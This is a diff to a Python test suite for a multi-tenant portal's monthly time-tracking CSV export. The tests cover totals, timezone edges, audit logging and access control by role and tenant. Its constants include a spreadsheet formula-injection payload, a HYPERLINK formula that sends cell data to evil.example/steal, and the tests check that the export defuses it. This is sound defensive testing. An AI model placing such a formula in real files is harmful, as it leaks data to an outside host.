@@ -5,16 +5,17 @@ from __future__ import annotations
 import re
 import uuid
 from concurrent.futures import ThreadPoolExecutor
-from datetime import date, timedelta
+from datetime import UTC, date, datetime, timedelta
+from datetime import time as dt_time
 from pathlib import Path
 
-from sqlalchemy import select
+from sqlalchemy import select, update
 
 # The routes register on the work blueprint when this module is imported; until ``portal.work.init_app``
 # imports it too, importing it here (before the app is built) keeps these tests self-contained.
 from portal.extensions import db
 from portal.work import time as timing
-from portal.work.models import TimeEntry
+from portal.work.models import Task, TimeEntry
 from tenants.audit import PlatformAuditEvent
 from tenants.context import Scope, bound, for_tenant
 from tenants.policy import Role
@@ -59,6 +60,13 @@ def _today(app) -> date:
 
 def _task_id(task_url: str) -> uuid.UUID:
     return uuid.UUID(task_url.rsplit("/", 1)[1])
+
+
+def _as_it_stood(app, tenant_id: uuid.UUID, task_url: str, **values) -> None:
+    """Rewrite a task as if opened earlier (the forms refuse dates that have passed, and time before it opened)."""
+    with app.app_context(), for_tenant(tenant_id):
+        db.session.execute(update(Task).where(Task.id == _task_id(task_url)).values(**values))
+        db.session.commit()
 
 
 def test_a_timer_records_at_least_a_minute_and_a_double_start_keeps_one_timer(app, world):
@@ -243,6 +251,7 @@ def test_month_totals_split_billable_and_non_billable_time(app, world):
     staff = _signed_in(app, world["staff"])
     today = _today(app)
     first = today.replace(day=1)
+    _as_it_stood(app, world.a.id, close_url, created_at=datetime.combine(first - timedelta(days=1), dt_time(), UTC))
     token = csrf_token(staff, close_url)
     for minutes, billable in (("30", "1"), ("15", None)):
         data = {"csrf_token": token, "day": first.isoformat(), "minutes": minutes}
@@ -280,12 +289,14 @@ def test_month_totals_split_billable_and_non_billable_time(app, world):
 
 def test_the_load_page_shows_a_managers_clients_only(app, world):
     manager = _signed_in(app, world["manager"])
-    yesterday = (_today(app) - timedelta(days=1)).isoformat()
-    late_url = _open_task(manager, world.a.slug, title="File the overdue Alpha VAT return", due=yesterday,
+    yesterday = _today(app) - timedelta(days=1)
+    late_url = _open_task(manager, world.a.slug, title="File the overdue Alpha VAT return",
                           assignee=str(world["staff"].id))
+    _as_it_stood(app, world.a.id, late_url, due_date=yesterday)
     admin = _signed_in(app, world["provider_admin"])
-    _open_task(admin, world.b.slug, title="Overdue Beta confidential filing", due=yesterday,
-               assignee=str(world["provider_admin"].id))
+    beta_url = _open_task(admin, world.b.slug, title="Overdue Beta confidential filing",
+                          assignee=str(world["provider_admin"].id))
+    _as_it_stood(app, world.b.id, beta_url, due_date=yesterday)
 
     r = manager.get("/provider/load")
     assert r.status_code == 200
@@ -312,3 +323,154 @@ def test_the_load_page_shows_a_managers_clients_only(app, world):
         newcomer = make_person(Role.MANAGER)
     page = _signed_in(app, newcomer).get("/provider/load").get_data(as_text=True)
     assert 'data-testid="load-empty"' in page and "Assignments page" in page
+
+
+# --- the month as CSV ---------------------------------------------------------------------------
+
+FORMULA_NOTE = '=HYPERLINK("https://evil.example/steal?d="&A1,"Open the statement")'
+FORMULA_TITLE = '=HYPERLINK("https://evil.example","VAT return")'
+VIETNAMESE_NAME = "Nguyễn Thị Ánh"
+
+
+def _csv(response) -> list[dict[str, str]]:
+    """The rows of a CSV download (after checking it is one, with its byte order mark)."""
+    import csv
+    import io
+
+    assert response.status_code == 200, response.data[:300]
+    assert response.mimetype == "text/csv" and response.mimetype_params.get("charset") == "utf-8"
+    assert response.headers["X-Content-Type-Options"] == "nosniff" and "no-store" in response.headers["Cache-Control"]
+    assert response.data.startswith(b"\xef\xbb\xbf")
+    reader = csv.DictReader(io.StringIO(response.data.decode("utf-8")[1:]))
+    assert reader.fieldnames == ["date", "person", "task", "service_line", "minutes", "hours", "billable", "note"]
+    return list(reader)
+
+
+def _log(client, task_url: str, day: date, minutes: int, billable: bool, note: str = "") -> None:
+    data = {"csrf_token": csrf_token(client, task_url), "day": day.isoformat(), "minutes": str(minutes),
+            "note": note}
+    if billable:
+        data["billable"] = "1"
+    r = client.post(task_url + "/time", data=data)
+    assert r.status_code == 302, r.get_data(as_text=True)[:300]
+
+
+def _move_entry(app, tenant_id, minutes: int, started_at) -> None:
+    """Put the entry of ``minutes`` at another moment (a timer started just after midnight, last month's work)."""
+    with app.app_context(), for_tenant(tenant_id):
+        entry = db.session.scalars(select(TimeEntry).where(TimeEntry.minutes == minutes)).one()
+        entry.ended_at = started_at + (entry.ended_at - entry.started_at)
+        entry.started_at = started_at
+        db.session.commit()
+
+
+def test_the_month_downloads_as_csv_that_adds_up_to_what_was_logged(app, world):
+    from zoneinfo import ZoneInfo
+
+    from tenants.audit import AuditEvent
+    from tenants.models import User
+    from tenants.zones import start_of_day
+    from tests.api.util import bearer, issue_token
+
+    with app.app_context():
+        db.session.get(User, world["staff"].id).name = VIETNAMESE_NAME
+        db.session.commit()
+    manager_name = world["manager"].email.split("@")[0]
+    manager = _signed_in(app, world["manager"])
+    staff = _signed_in(app, world["staff"])
+    close_url = _open_task(manager, world.a.slug, title="Month-end close", assignee=str(world["staff"].id))
+    vat_url = _open_task(manager, world.a.slug, title=FORMULA_TITLE, line="payroll")
+    today = _today(app)
+    zone = ZoneInfo("Asia/Ho_Chi_Minh")
+    month = today.strftime("%Y-%m")
+
+    # What is logged, and so what the file must say: (date, person, task, line, minutes, billable, note).
+    _log(staff, close_url, today, 95, True, FORMULA_NOTE)
+    _log(staff, close_url, today, 15, False, "-2 min for the bank's fee")
+    _log(manager, vat_url, today, 20, True, "@cfo asked for it")
+    _log(staff, close_url, today, 50, True, "last month's work")
+    token = csrf_token(staff, vat_url)
+    staff.post(vat_url + "/timer/start", data={"csrf_token": token, "billable": "1"})
+    staff.post(vat_url + "/timer/stop", data={"csrf_token": token})  # 1 min
+    # The timer started five minutes into today in Ho Chi Minh City: still yesterday in UTC.
+    _move_entry(app, world.a.id, 1, start_of_day(today, zone) + timedelta(minutes=5))
+    # The 50 minutes were done a minute before this month began, in the tenant's calendar.
+    _move_entry(app, world.a.id, 50, start_of_day(today.replace(day=1), zone) - timedelta(minutes=1))
+    manager.post(close_url + "/timer/start", data={"csrf_token": csrf_token(manager, close_url)})  # still running
+    admin = _signed_in(app, world["provider_admin"])
+    _log(admin, _open_task(admin, world.b.slug, title="Beta payroll run"), today, 30, True, "Beta's secret")
+
+    day = today.isoformat()
+    expected = sorted([
+        (day, VIETNAMESE_NAME, "Month-end close", "Bookkeeping", "95", "1.58", "yes", "'" + FORMULA_NOTE),
+        (day, VIETNAMESE_NAME, "Month-end close", "Bookkeeping", "15", "0.25", "no", "'-2 min for the bank's fee"),
+        (day, manager_name, "'" + FORMULA_TITLE, "Payroll", "20", "0.33", "yes", "'@cfo asked for it"),
+        (day, VIETNAMESE_NAME, "'" + FORMULA_TITLE, "Payroll", "1", "0.02", "yes", ""),
+    ])
+    r = manager.get(f"/t/{world.a.slug}/time.csv?month={month}")
+    assert r.headers["Content-Disposition"] == f"attachment; filename=time-{world.a.slug}-{month}.csv"
+    rows = _csv(r)
+    assert sorted(tuple(row.values()) for row in rows) == expected
+    billable = sum(int(row["minutes"]) for row in rows if row["billable"] == "yes")
+    non_billable = sum(int(row["minutes"]) for row in rows if row["billable"] == "no")
+    assert (billable, non_billable) == (95 + 20 + 1, 15)
+    # The page it was downloaded from says the same, and offers the file.
+    page = manager.get(f"/t/{world.a.slug}/time?month={month}").get_data(as_text=True)
+    assert f'data-testid="month-billable" data-minutes="{billable}"' in page
+    assert f'data-testid="month-non-billable" data-minutes="{non_billable}"' in page
+    assert f"/t/{world.a.slug}/time.csv?month={month}" in page and "Download CSV" in page
+
+    # Last month's file holds the 50 minutes, on the last day of that month.
+    last_month = today.replace(day=1) - timedelta(days=1)
+    [row] = _csv(manager.get(f"/t/{world.a.slug}/time.csv?month={last_month:%Y-%m}"))
+    assert (row["date"], row["minutes"], row["hours"]) == (last_month.isoformat(), "50", "0.83")
+
+    # The API gives the same file to a manager's token.
+    raw = issue_token(app, world["manager"], world.a)
+    r = app.test_client().get(f"/api/v1/tenants/{world.a.slug}/time.csv?month={month}", headers=bearer(raw))
+    assert sorted(tuple(row.values()) for row in _csv(r)) == expected
+    bad = app.test_client().get(f"/api/v1/tenants/{world.a.slug}/time.csv?month=May", headers=bearer(raw))
+    assert bad.status_code == 422 and "YYYY-MM" in bad.get_data(as_text=True)
+
+    # Each download is in the tenant's log, internal to the provider.
+    with app.app_context(), for_tenant(world.a.id):
+        events = db.session.scalars(select(AuditEvent).where(AuditEvent.action == "time.exported")
+                                    .order_by(AuditEvent.seq)).all()
+        assert [(e.actor_id, e.internal, e.details["month"], e.details["entries"], e.details["via"])
+                for e in events] == [(world["manager"].id, True, month, 4, "page"),
+                                     (world["manager"].id, True, f"{last_month:%Y-%m}", 1, "page"),
+                                     (world["manager"].id, True, month, 4, "api")]
+    access_log = _signed_in(app, world["a_client_admin"]).get(f"/t/{world.a.slug}/access-log")
+    assert access_log.status_code == 200 and "time.exported" not in access_log.get_data(as_text=True)
+
+
+def test_only_those_who_may_read_the_month_download_it(app, world):
+    from tests.api.util import bearer, issue_token
+
+    manager = _signed_in(app, world["manager"])
+    task_url = _open_task(manager, world.a.slug)
+    _log(manager, task_url, _today(app), 45, True, SECRET_NOTE)
+    url = f"/t/{world.a.slug}/time.csv"
+
+    # Clients never see time; staff log it but do not read months; another tenant's slug is not found.
+    for key in ("a_client_admin", "a_client_approver", "a_client_member", "staff"):
+        r = _signed_in(app, world[key]).get(url)
+        assert r.status_code == 403 and SECRET_NOTE not in r.get_data(as_text=True), key
+    for key in ("b_client_admin", "unassigned_staff"):
+        r = _signed_in(app, world[key]).get(url)
+        assert r.status_code == 404 and SECRET_NOTE not in r.get_data(as_text=True), key
+    assert manager.get(f"/t/{world.b.slug}/time.csv").status_code == 404
+
+    # The API: a client's token is refused, and a token works in its own tenant only.
+    client_token = issue_token(app, world["a_client_admin"], world.a)
+    r = app.test_client().get(f"/api/v1/tenants/{world.a.slug}/time.csv", headers=bearer(client_token))
+    assert r.status_code == 403 and SECRET_NOTE not in r.get_data(as_text=True)
+    manager_token = issue_token(app, world["manager"], world.a)
+    r = app.test_client().get(f"/api/v1/tenants/{world.b.slug}/time.csv", headers=bearer(manager_token))
+    assert r.status_code == 404
+    assert app.test_client().get(f"/api/v1/tenants/{world.a.slug}/time.csv").status_code == 401
+
+    with app.app_context(), for_tenant(world.a.id):
+        from tenants.audit import AuditEvent
+
+        assert db.session.scalars(select(AuditEvent).where(AuditEvent.action == "time.exported")).all() == []
